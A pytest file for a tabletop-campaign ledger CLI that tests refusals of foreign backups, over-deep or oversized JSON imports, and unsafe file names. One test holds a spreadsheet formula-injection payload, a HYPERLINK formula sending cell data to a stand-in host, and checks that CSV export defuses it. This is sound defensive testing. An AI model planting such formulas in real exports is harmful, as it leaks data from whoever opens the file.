"""What `restore` and `import` refuse: a backup of another campaign, an export nested too
deeply or too large to read. Each refusal is one line and leaves the ledger as it was."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from cli_helpers import assert_one_clear_line, invoke
from conftest import FIXTURES_DIR, REPO, ledger_fingerprint, write_campaign

from drawsteel_kit.kit.ledger import books
from drawsteel_kit.systems.draw_steel.campaign import Campaign


@pytest.fixture
def demo(tmp_path: Path, initialise: Callable[[Path], None]) -> Path:
    folder = tmp_path / "demo"
    folder.mkdir()
    shutil.copy(REPO / "campaigns" / "demo" / "campaign.yaml", folder / "campaign.yaml")
    initialise(folder)
    with Campaign.open(folder) as camp:
        camp.award_victories(1)
    return folder


def _backup(folder: Path, dest: Path) -> Path:
    assert invoke("backup", folder, dest).exit_code == 0
    return dest


def test_restore_refuses_a_backup_of_another_campaign(demo: Path, tmp_path: Path) -> None:
    other = write_campaign(tmp_path / "other", name="The Other Company")
    Campaign.init(other)[0].close()
    pf2e = tmp_path / "pf2e"
    pf2e.mkdir()
    shutil.copy(REPO / "campaigns" / "pf2e-demo" / "campaign.yaml", pf2e / "campaign.yaml")
    assert invoke("init", pf2e).exit_code == 0
    before = ledger_fingerprint(demo / "ledger.db")
    for stranger in (_backup(other, tmp_path / "other.db"), _backup(pf2e, tmp_path / "pf2e.db")):
        line = assert_one_clear_line(invoke("restore", demo, stranger), "another campaign")
        assert "The Lantern Company" in line, line
        assert ledger_fingerprint(demo / "ledger.db") == before, stranger
    assert not (demo / "backups").exists()
    # the other way round too: Draw Steel's books do not go into a Pathfinder campaign
    assert_one_clear_line(invoke("restore", pf2e, tmp_path / "other.db"), "another campaign")


def test_restore_takes_this_campaigns_backup_even_when_the_ledger_is_gone(
        demo: Path, tmp_path: Path) -> None:
    own = _backup(demo, tmp_path / "own.db")
    with Campaign.open(demo) as camp:
        camp.award_victories(1)
    assert invoke("restore", demo, own).exit_code == 0
    other = write_campaign(tmp_path / "other", name="The Other Company")
    Campaign.init(other)[0].close()
    stranger = _backup(other, tmp_path / "other.db")
    for suffix in ("", "-wal", "-shm"):  # damaged: campaign.yaml says which campaign it is
        (demo / f"ledger.db{suffix}").unlink(missing_ok=True)
    (demo / "ledger.db").write_bytes(b"not a ledger any more")
    assert_one_clear_line(invoke("restore", demo, stranger), "another campaign")
    assert (demo / "ledger.db").read_bytes() == b"not a ledger any more"
    assert invoke("restore", demo, own).exit_code == 0


def test_import_refuses_an_export_nested_too_deeply(tmp_path: Path) -> None:
    for name, text in (("arrays.json", "[" * 100_000 + "]" * 100_000),
                       ("objects.json", '{"a":' * 100_000 + "1" + "}" * 100_000)):
        deep = tmp_path / name
        deep.write_text(text, encoding="utf-8")
        assert_one_clear_line(invoke("import", deep, tmp_path / "new"), "nested too deeply")
        assert not (tmp_path / "new").exists()


def test_import_refuses_an_export_too_large_to_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(books, "MAX_EXPORT_BYTES", 1000)
    big = tmp_path / "big.json"
    big.write_text('{"format": "drawsteel-kit export", "events": [' + "1, " * 1000 + "1]}",
                   encoding="utf-8")
    assert_one_clear_line(invoke("import", big, tmp_path / "new"), "too large")
    assert not (tmp_path / "new").exists()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_plain_text(
        demo: Path, tmp_path: Path) -> None:
    import csv

    with Campaign.open(demo) as camp:
        camp.add_note('=HYPERLINK("http://example.com/?"&A2,"x")')
        camp.add_note("@SUM(1+1)", visibility="director")
        camp.award_renown("Val", 1, reason="+1 for the rescue")
    out = tmp_path / "tables"
    assert invoke("export", demo, "--format", "csv", "--out", out).exit_code == 0
    with (out / "notes.csv").open(newline="", encoding="utf-8") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert "'=HYPERLINK(\"http://example.com/?\"&A2,\"x\")" in texts and "'@SUM(1+1)" in texts
    events = (out / "events.csv").read_text(encoding="utf-8")
    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line
                   for line in events.splitlines())
    with (out / "heroes.csv").open(newline="", encoding="utf-8") as file:
        val = next(row for row in csv.DictReader(file) if row["name"] == "Val")
    assert val["agility"].lstrip("-").isdigit()  # numbers stay numbers, a minus and all


def test_force_never_writes_an_output_over_a_ledger(demo: Path, tmp_path: Path) -> None:
    from drawsteel_kit.systems.draw_steel.forge_steel import import_heroes

    with Campaign.open(demo) as camp:
        import_heroes(camp, [FIXTURES_DIR / "forge_steel" /
                             "minimal.ds-hero"])
    ledger = demo / "ledger.db"
    backup = _backup(demo, tmp_path / "kept.db")
    before, kept = ledger_fingerprint(ledger), backup.read_bytes()
    for target in (ledger, backup):
        for args in (("export", demo, "--out", target, "--force"),
                     ("heroes", "export", demo, "Ilsa", "--to", target, "--force")):
            result = invoke(*args)
            assert result.exit_code == 1, result.output
            assert "Traceback" not in result.output
        assert ledger_fingerprint(ledger) == before and backup.read_bytes() == kept
    assert_one_clear_line(invoke("export", demo, "--out", ledger, "--force"), "ledger")


def test_import_refuses_events_of_the_wrong_shape_in_one_line(
        demo: Path, tmp_path: Path) -> None:
    import copy
    import json

    full = tmp_path / "full.json"
    assert invoke("export", demo, "--out", full).exit_code == 0
    good = json.loads(full.read_text(encoding="utf-8"))

    def broken(change: Callable[[dict], None]) -> dict:
        data = copy.deepcopy(good)
        change(data["events"][1])
        return data

    def after_text(e: dict) -> None:
        e["ops"][0].update(op="update", after="text", before={})

    cases = {
        "after-text": after_text,
        "key-mapping": lambda e: e["ops"][0].update(key={"a": 1}),
        "op-text": lambda e: e.update(ops=["x"]),
        "dice-text": lambda e: e.update(dice="abc"),
        "day-text": lambda e: e.update(day="three"),
        "id-flag": lambda e: e.update(id=True),
        "table-list": lambda e: e["ops"][0].update(table=["heroes"]),
        "update-nobody": lambda e: e["ops"][0].update(op="update", key="Nobody",
                                                      after={"xp": 1}),
    }
    for name, change in cases.items():
        bad = tmp_path / f"{name}.json"
        bad.write_text(json.dumps(broken(change)), encoding="utf-8")
        line = assert_one_clear_line(invoke("import", bad, tmp_path / "new"), "events[1]",
                                     "cannot be replayed")
        assert "object" not in line and "'str'" not in line, line
        assert not (tmp_path / "new").exists(), name


def test_a_refused_import_leaves_no_folder_it_made(demo: Path, tmp_path: Path) -> None:
    import json

    full = tmp_path / "full.json"
    assert invoke("export", demo, "--out", full).exit_code == 0
    data = json.loads(full.read_text(encoding="utf-8"))
    data["state"]["heroes"][0]["xp"] = 12345  # the history no longer gives this state
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(data), encoding="utf-8")
    deep = tmp_path / "new" / "campaigns" / "copy"
    assert_one_clear_line(invoke("import", edited, deep), "its state is not")
    assert not (tmp_path / "new").exists()


def test_restore_puts_back_this_campaigns_books_over_another_campaigns(
        demo: Path, tmp_path: Path) -> None:
    """A ledger of another campaign in the folder (copied in by hand, or by an older
    restore): the campaign's own backup still goes back, as campaign.yaml names it."""
    own = _backup(demo, tmp_path / "own.db")
    other = write_campaign(tmp_path / "other", name="The Other Company")
    Campaign.init(other)[0].close()
    for suffix in ("", "-wal", "-shm"):
        (demo / f"ledger.db{suffix}").unlink(missing_ok=True)
    shutil.copy(_backup(other, tmp_path / "other.db"), demo / "ledger.db")
    result = invoke("restore", demo, own)
    assert result.exit_code == 0, result.output
    with Campaign.open(demo) as camp:
        assert camp.party.name == "The Lantern Company"


@pytest.mark.parametrize("name", ["night #1.db", "before%20the%20end.db", "what?.db"])
def test_restore_takes_a_backup_whose_name_holds_uri_characters(
        demo: Path, tmp_path: Path, name: str) -> None:
    backup = _backup(demo, tmp_path / "kept" / name)
    with Campaign.open(demo) as camp:
        was = camp.ledger.event_count()
        camp.award_victories(1)
    result = invoke("restore", demo, backup)
    assert result.exit_code == 0, result.output
    with Campaign.open(demo) as camp:
        assert camp.ledger.event_count() == was
    left = {p.name for p in (tmp_path / "kept").iterdir()}  # no stray file, such as "night "
    assert left <= {name, f"{name}-wal", f"{name}-shm"} and name in left, left
